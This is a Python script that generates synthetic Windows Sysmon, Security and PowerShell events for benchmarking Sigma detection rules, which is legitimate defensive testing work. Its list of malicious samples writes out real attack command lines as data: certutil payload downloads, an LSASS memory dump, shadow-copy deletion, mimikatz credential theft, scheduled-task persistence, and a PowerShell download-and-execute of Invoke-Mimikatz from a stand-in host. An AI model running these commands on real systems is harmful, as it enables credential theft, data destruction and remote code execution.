#!/usr/bin/env python3
"""Generate realistic Windows events (Sysmon, Security, PowerShell) as JSON
lines, flat objects with Sigma field names plus EventID/Channel/Provider_Name,
for benchmarking `rulecheck-sigma` scans.

A few percent of the events carry well-known malicious patterns (encoded
PowerShell, certutil downloads, LSASS dumps, shadow copy deletion, ...), so
real SigmaHQ rules fire on them. Deterministic for a given --seed.

    python3 gen_events.py --count 1000000 --out events.jsonl
"""

import argparse
import datetime
import json
import random

SYSMON = "Microsoft-Windows-Sysmon/Operational"
SYSMON_PROVIDER = "Microsoft-Windows-Sysmon"

BENIGN_IMAGES = [
    "C:\\Windows\\System32\\svchost.exe",
    "C:\\Windows\\explorer.exe",
    "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    "C:\\Windows\\System32\\conhost.exe",
    "C:\\Windows\\System32\\taskhostw.exe",
    "C:\\Windows\\System32\\RuntimeBroker.exe",
    "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
    "C:\\Windows\\System32\\SearchIndexer.exe",
    "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
]
BENIGN_PROCESSES = [
    # (image, command line, parent image)
    ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
     "C:\\Windows\\System32\\services.exe"),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
     "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US",
     "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"),
    ("C:\\Windows\\explorer.exe", "C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\userinit.exe"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
     "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\alice\\Documents\\report.docx\"",
     "C:\\Windows\\explorer.exe"),
    ("C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}",
     "C:\\Windows\\System32\\svchost.exe"),
    ("C:\\Program Files\\Git\\cmd\\git.exe", "git status --porcelain", "C:\\Windows\\explorer.exe"),
    ("C:\\Program Files\\Python311\\python.exe", "python.exe manage.py runserver", "C:\\Windows\\explorer.exe"),
    ("C:\\Program Files\\Mozilla Firefox\\firefox.exe", "\"C:\\Program Files\\Mozilla Firefox\\firefox.exe\"",
     "C:\\Windows\\explorer.exe"),
]
MALICIOUS = [
    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
     "C:\\Windows\\System32\\cmd.exe"),
    ("C:\\Windows\\System32\\certutil.exe",
     "certutil.exe -urlcache -split -f http://203.0.113.7/payload.exe C:\\Users\\Public\\p.exe",
     "C:\\Windows\\System32\\cmd.exe"),
    ("C:\\Windows\\System32\\rundll32.exe",
     "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full",
     "C:\\Windows\\System32\\cmd.exe"),
    ("C:\\Windows\\System32\\vssadmin.exe",
     "vssadmin.exe delete shadows /all /quiet",
     "C:\\Windows\\System32\\cmd.exe"),
    ("C:\\Windows\\System32\\cmd.exe",
     "cmd.exe /c whoami /all",
     "C:\\Windows\\System32\\cmstp.exe"),
    ("C:\\Users\\Public\\mimikatz.exe",
     "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
     "C:\\Windows\\System32\\cmd.exe"),
    ("C:\\Windows\\System32\\schtasks.exe",
     "schtasks /create /sc minute /mo 5 /tn Updater /tr C:\\Users\\Public\\p.exe /ru SYSTEM",
     "C:\\Windows\\System32\\cmd.exe"),
]
USERS = ["CORP\\alice", "CORP\\bob", "CORP\\carol", "NT AUTHORITY\\SYSTEM", "CORP\\dave"]
HOSTS = [f"WS{n:04d}.corp.local" for n in range(200)]


def guid(rng):
    return "{%08X-%04X-%04X-%04X-%012X}" % (
        rng.getrandbits(32), rng.getrandbits(16), rng.getrandbits(16),
        rng.getrandbits(16), rng.getrandbits(48))


def utc(t):
    """Sysmon's `UtcTime` format."""
    return datetime.datetime.fromtimestamp(t, datetime.timezone.utc).strftime("%Y-%m-%d %H:%M:%S.000")


def base(rng, t, eid, channel=SYSMON, provider=SYSMON_PROVIDER):
    return {
        "EventID": eid,
        "Channel": channel,
        "Provider_Name": provider,
        "Computer": rng.choice(HOSTS),
        "@timestamp": t,
    }


def process_creation(rng, t, bad):
    if bad:
        image, cmd, parent = rng.choice(MALICIOUS)
    else:
        image, cmd, parent = rng.choice(BENIGN_PROCESSES)
    if rng.random() < 0.8:
        e = base(rng, t, 1)
        e.update({
            "UtcTime": utc(t), "ProcessGuid": guid(rng), "ProcessId": rng.randint(100, 60000),
            "Image": image, "FileVersion": "10.0.19041.1", "Description": "Windows process",
            "Product": "Microsoft Windows Operating System", "Company": "Microsoft Corporation",
            "OriginalFileName": image.rsplit("\\", 1)[-1], "CommandLine": cmd,
            "CurrentDirectory": "C:\\Windows\\system32\\", "User": rng.choice(USERS),
            "LogonGuid": guid(rng), "LogonId": hex(rng.getrandbits(24)), "TerminalSessionId": 1,
            "IntegrityLevel": rng.choice(["Medium", "High", "System"]),
            "Hashes": "SHA256=%064X" % rng.getrandbits(256),
            "ParentProcessGuid": guid(rng), "ParentProcessId": rng.randint(100, 60000),
            "ParentImage": parent, "ParentCommandLine": parent, "ParentUser": rng.choice(USERS),
        })
    else:
        e = base(rng, t, 4688, "Security", "Microsoft-Windows-Security-Auditing")
        e.update({
            "SubjectUserSid": "S-1-5-18", "SubjectUserName": rng.choice(USERS).split("\\")[-1],
            "SubjectDomainName": "CORP", "SubjectLogonId": "0x3e7", "NewProcessId": hex(rng.randint(100, 60000)),
            "NewProcessName": image, "TokenElevationType": "%%1936", "ProcessId": hex(rng.randint(100, 60000)),
            "CommandLine": cmd, "ParentProcessName": parent, "MandatoryLabel": "S-1-16-12288",
        })
    return e


def network(rng, t, bad):
    e = base(rng, t, 3)
    e.update({
        "UtcTime": utc(t), "ProcessGuid": guid(rng), "ProcessId": rng.randint(100, 60000),
        "Image": rng.choice(BENIGN_IMAGES), "User": rng.choice(USERS), "Protocol": "tcp",
        "Initiated": "true", "SourceIsIpv6": "false", "SourceIp": f"10.1.{rng.randint(0, 255)}.{rng.randint(1, 254)}",
        "SourceHostname": rng.choice(HOSTS), "SourcePort": rng.randint(49152, 65535),
        "DestinationIsIpv6": "false",
        "DestinationIp": "203.0.113.7" if bad else f"142.250.{rng.randint(0, 255)}.{rng.randint(1, 254)}",
        "DestinationHostname": "", "DestinationPort": 4444 if bad else rng.choice([443, 80, 53]),
    })
    return e


def image_load(rng, t, bad):
    e = base(rng, t, 7)
    dll = "C:\\Windows\\System32\\dbghelp.dll" if bad else rng.choice([
        "C:\\Windows\\System32\\kernel32.dll", "C:\\Windows\\System32\\ntdll.dll",
        "C:\\Windows\\System32\\user32.dll", "C:\\Windows\\System32\\combase.dll"])
    e.update({"UtcTime": utc(t), "ProcessGuid": guid(rng), "ProcessId": rng.randint(100, 60000),
              "Image": rng.choice(BENIGN_IMAGES), "ImageLoaded": dll, "Signed": "true",
              "Signature": "Microsoft Windows", "SignatureStatus": "Valid", "User": rng.choice(USERS)})
    return e


def process_access(rng, t, bad):
    e = base(rng, t, 10)
    e.update({"UtcTime": utc(t), "SourceProcessGUID": guid(rng), "SourceImage": rng.choice(BENIGN_IMAGES),
              "TargetImage": "C:\\Windows\\system32\\lsass.exe" if bad else rng.choice(BENIGN_IMAGES),
              "GrantedAccess": "0x1010" if bad else "0x1000",
              "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Windows\\System32\\KERNELBASE.dll+2c13e"})
    return e


def file_event(rng, t, bad):
    e = base(rng, t, 11)
    target = "C:\\Users\\Public\\p.exe" if bad else f"C:\\Users\\alice\\AppData\\Local\\Temp\\tmp{rng.getrandbits(20):05x}.tmp"
    e.update({"UtcTime": utc(t), "ProcessGuid": guid(rng), "Image": rng.choice(BENIGN_IMAGES),
              "TargetFilename": target, "CreationUtcTime": utc(t), "User": rng.choice(USERS)})
    return e


def registry(rng, t, bad):
    e = base(rng, t, 13)
    key = ("HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater" if bad
           else "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\FileExts\\.txt")
    e.update({"EventType": "SetValue", "UtcTime": utc(t), "ProcessGuid": guid(rng),
              "Image": rng.choice(BENIGN_IMAGES), "TargetObject": key,
              "Details": "C:\\Users\\Public\\p.exe" if bad else "DWORD (0x00000001)", "User": rng.choice(USERS)})
    return e


def dns(rng, t, bad):
    e = base(rng, t, 22)
    e.update({"UtcTime": utc(t), "ProcessGuid": guid(rng), "Image": rng.choice(BENIGN_IMAGES),
              "QueryName": "raw.githubusercontent.com" if bad else rng.choice(["www.google.com", "login.microsoftonline.com", "outlook.office365.com"]),
              "QueryStatus": "0", "QueryResults": "::ffff:142.250.1.1;", "User": rng.choice(USERS)})
    return e


def logon(rng, t, bad):
    e = base(rng, t, 4625 if bad else 4624, "Security", "Microsoft-Windows-Security-Auditing")
    e.update({"SubjectUserSid": "S-1-5-18", "TargetUserName": rng.choice(USERS).split("\\")[-1],
              "TargetDomainName": "CORP", "LogonType": rng.choice([2, 3, 10]),
              "IpAddress": f"10.1.{rng.randint(0, 255)}.{rng.randint(1, 254)}", "IpPort": "0",
              "LogonProcessName": "NtLmSsp", "AuthenticationPackageName": "NTLM", "WorkstationName": rng.choice(HOSTS)})
    return e


def ps_script(rng, t, bad):
    e = base(rng, t, 4104, "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell")
    text = ("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds"
            if bad else "Get-ChildItem -Path C:\\Users\\alice\\Documents | Where-Object { $_.Length -gt 1MB }")
    e.update({"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": text, "ScriptBlockId": guid(rng), "Path": ""})
    return e


KINDS = [
    (process_creation, 30), (network, 15), (image_load, 15), (process_access, 5), (file_event, 10),
    (registry, 10), (dns, 5), (logon, 6), (ps_script, 4),
]


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--count", type=int, default=1_000_000)
    ap.add_argument("--bad", type=float, default=0.03, help="fraction of malicious events")
    ap.add_argument("--seed", type=int, default=7)
    ap.add_argument("--out", default="events.jsonl")
    args = ap.parse_args()
    rng = random.Random(args.seed)
    funcs = [f for f, w in KINDS for _ in range(w)]
    t0 = 1_735_689_600  # 2025-01-01T00:00:00Z
    with open(args.out, "w", encoding="utf-8") as out:
        for i in range(args.count):
            t = t0 + i // 10
            f = rng.choice(funcs)
            out.write(json.dumps(f(rng, t, rng.random() < args.bad), separators=(",", ":")))
            out.write("\n")


if __name__ == "__main__":
    main()
